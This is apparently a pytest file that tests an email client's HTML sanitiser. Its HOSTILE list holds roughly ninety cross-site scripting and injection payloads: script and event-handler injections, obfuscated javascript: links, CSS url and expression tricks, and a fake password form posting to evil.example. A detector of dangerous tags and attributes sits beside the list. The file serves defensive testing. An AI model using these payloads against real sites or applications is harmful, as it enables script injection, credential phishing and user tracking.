"""HTML of strangers: nothing of it runs, loads, covers or submits; its words stay."""

import re
from html.parser import HTMLParser

import pytest

from channels_app.email.reading.html_cleaning import TooTangled, cleaned
from channels_app.email.reading.html_text import text_of

#: Everything that may stand in cleaned HTML beside the plain tags of a text.
ALLOWED_SCHEMES = ("http:", "https:", "mailto:", "tel:")
FORBIDDEN_TAGS = frozenset(
    "script style iframe frame frameset object embed applet form input button textarea select link"
    " meta base svg math audio video source track template noscript title portal dialog".split()
)


class _Danger(HTMLParser):
    """Finds what a browser would act on."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in FORBIDDEN_TAGS:
            self.found.append(tag)
        for name, value in attrs:
            address = re.sub(r"[\x00-\x20]", "", value or "").lower()
            if (
                name.startswith("on")
                or name
                in ("srcdoc", "srcset", "action", "formaction", "background", "poster", "id")
                or (name == "src" and not address.startswith("cid:"))
                or (name == "href" and not address.startswith(ALLOWED_SCHEMES))
                or (name == "data-remote-src" and not address.startswith(ALLOWED_SCHEMES))
                or (
                    name == "style"
                    and re.search(
                        r"url|expression|import|behavior|binding|position|image|\\", address
                    )
                )
            ):
                self.found.append(f"{tag} {name}={value}")
        if tag == "a" and dict(attrs).get("rel") != "noopener noreferrer nofollow":
            self.found.append("a link without rel")


def dangers(html: str) -> list[str]:
    """What is dangerous in cleaned HTML; empty if nothing is."""
    parser = _Danger()
    parser.feed(html)
    parser.close()
    return parser.found


HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<img src='javascript:alert(1)'>",
    "<img src=` javascript:alert(1)`>",
    "<img src=data:image/svg+xml;base64,PHN2Zy8+>",
    "<img srcset='http://evil.example/a.png 1x'>",
    "<img/src=x/onerror=alert(1)//>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='&#x6A&#x61vascript&colon;alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='blob:https://x/1'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='/admin/delete'>x</a>",
    "<a href='https://ok.example' target=_self rel=opener onclick=alert(1)>x</a>",
    "<a href='cid:x'>x</a>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style>"
    "<img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math href='javascript:alert(1)'>x</math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<textarea><p title='</textarea><img src=x onerror=alert(1)>'>",
    "<title><p title='</title><img src=x onerror=alert(1)>'>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<style>body{background:url(http://evil.example)}</style>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<base href='http://evil.example/'>",
    "<iframe src=http://evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=http://evil.example/x.swf></object>",
    "<embed src=http://evil.example/x.swf>",
    "<applet code=x></applet>",
    "<form action=http://evil.example><input name=password><button>Go</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<isindex action=javascript:alert(1)>",
    "<body onload=alert(1)>",
    "<body background=http://evil.example/x.png>",
    "<table background='http://evil.example/x.png'><tr><td background='http://evil.example'>x</table>",
    "<div style='background:url(http://evil.example)'>x</div>",
    "<div style='background-image:url(http://evil.example)'>x</div>",
    "<div style='color:url(http://evil.example)'>x</div>",
    "<div style='color:u\\72l(http://evil.example)'>x</div>",
    "<div style='color:u/**/rl(http://evil.example)'>x</div>",
    "<div style='list-style:url(http://evil.example)'>x</div>",
    "<div style='font-family:expression(alert(1))'>x</div>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<div style='behavior:url(x.htc)'>x</div>",
    "<div style='-moz-binding:url(x)'>x</div>",
    "<div style='position:fixed;top:0;left:0;width:100%;height:100%'>Log in again</div>",
    "<div style='border-image:url(http://evil.example) 1'>x</div>",
    "<div style='border: 1px image-set(\"http://evil.example\" 1x)'>x</div>",
    "<video poster=http://evil.example src=http://evil.example></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<input autofocus onfocus=alert(1)>",
    "<p id=location name=cookie class=modal>x</p>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<p title='\"><script>alert(1)</script>'>x</p>",
    "<b data-remote-src='javascript:alert(1)'>x</b>",
    "<img data-remote-src='javascript:alert(1)' src='cid:a'>",
    "<img src='http://evil.example/\"onerror=alert(1) x=\"'>",
    "<img src='cid:a\" onerror=\"alert(1)'>",
    "\ufeff<script\x00>alert(1)</script>",
    '<a href="https://ok.example/"onmouseover="alert(1)">x</a>',
    "<p><a href='https://ok.example' ping='http://evil.example'>x</a>",
    "<area href=javascript:alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<portal src=http://evil.example></portal>",
    "<plaintext><script>alert(1)</script>",
    "<select><option><img src=x onerror=alert(1)></select>",
    "<frameset onload=alert(1)><frame src=http://evil.example></frameset>",
]


@pytest.mark.parametrize("html", HOSTILE)
def test_nothing_dangerous_stays(html: str) -> None:
    clean = cleaned(f"<p>Before</p>{html}<p>After</p>").html

    assert dangers(clean) == []
    assert "Before" in clean
    assert "alert(1)" not in re.sub(r"&[a-z]+;", "", clean) or "<script" not in clean
    # Cleaning what was cleaned changes nothing that could become dangerous.
    assert dangers(cleaned(clean).html) == []


def test_the_finder_of_dangers_finds_them() -> None:
    assert dangers("<img src=x onerror=y>")
    assert dangers("<script>") and dangers("<a href='javascript:x'>")
    assert dangers("<p style='color:url(x)'>")


def test_what_people_write_stays() -> None:
    html = (
        '<h1>Hi</h1><p style="color:red;font-size:12px">a <b>b</b> <i>c</i></p>'
        "<ul><li>one</li></ul>"
        '<table border="1"><tbody><tr><td colspan="2">x</td></tr></tbody></table>'
        "<blockquote>q</blockquote>"
    )

    assert cleaned(html).html == html


def test_a_link_opens_apart_and_tells_nobody_where_it_was() -> None:
    assert cleaned('<a href="https://x.example/?a=1&b=2">x</a>').html == (
        '<a href="https://x.example/?a=1&amp;b=2" target="_blank"'
        ' rel="noopener noreferrer nofollow">x</a>'
    )


def test_remote_pictures_wait_and_own_ones_stay() -> None:
    found = cleaned('<img src="https://t.example/x.gif?a=1&amp;b=2" alt="x"><img src="cid:a@b">')

    assert found.html == (
        '<img data-remote-src="https://t.example/x.gif?a=1&amp;b=2" alt="x"><img src="cid:a@b">'
    )
    assert found.has_remote_images
    assert not cleaned('<img src="cid:a@b">').has_remote_images


@pytest.mark.parametrize(
    "html",
    [
        "<div>" * 5_000,
        "".join(f"<b id={n}>" for n in range(3_000)) + "<p>x" * 3_000,
        "&" * 200_000,
    ],
)
def test_what_would_take_minutes_is_read_as_text_only(html: str) -> None:
    with pytest.raises(TooTangled):
        cleaned(html)

    assert isinstance(text_of(html + "words"), str)


@pytest.mark.parametrize(
    ("html", "text"),
    [
        ("<p>One</p><p>Two</p>", "One\n\nTwo"),
        ("One<br>Two<div>Three</div><div>Four</div>", "One\nTwo\nThree\nFour"),
        ("<ul><li>a</li><li>b</li></ul>", "- a\n- b"),
        ("a\n  b&nbsp;c &lt;d&gt;", "a b c <d>"),
        ("<table><tr><td>a</td><td>b</td></tr><tr><td>c</td></tr></table>", "a b\nc"),
        ("<pre>a\n  b</pre>", "a\nb"),
        ("Yes<blockquote type=cite>When?</blockquote>", "Yes\n\n> When?"),
        (
            'Yes<div class="gmail_quote">On Monday, X wrote:<br>When?</div>',
            "Yes\n> On Monday, X wrote:\n> When?",
        ),
        ('Yes<div id="divRplyFwdMsg">From: X</div><div>When?</div>', "Yes\n> From: X\n> When?"),
        (
            '<blockquote style="margin: 0 0 0 40px; border: none; padding: 0px">Mine</blockquote>',
            "Mine",
        ),
        ('<div style="display: none">hidden</div>shown', "shown"),
        ("<style>p{}</style><title>t</title>words", "words"),
    ],
)
def test_html_reads_as_text(html: str, text: str) -> None:
    assert text_of(html) == text
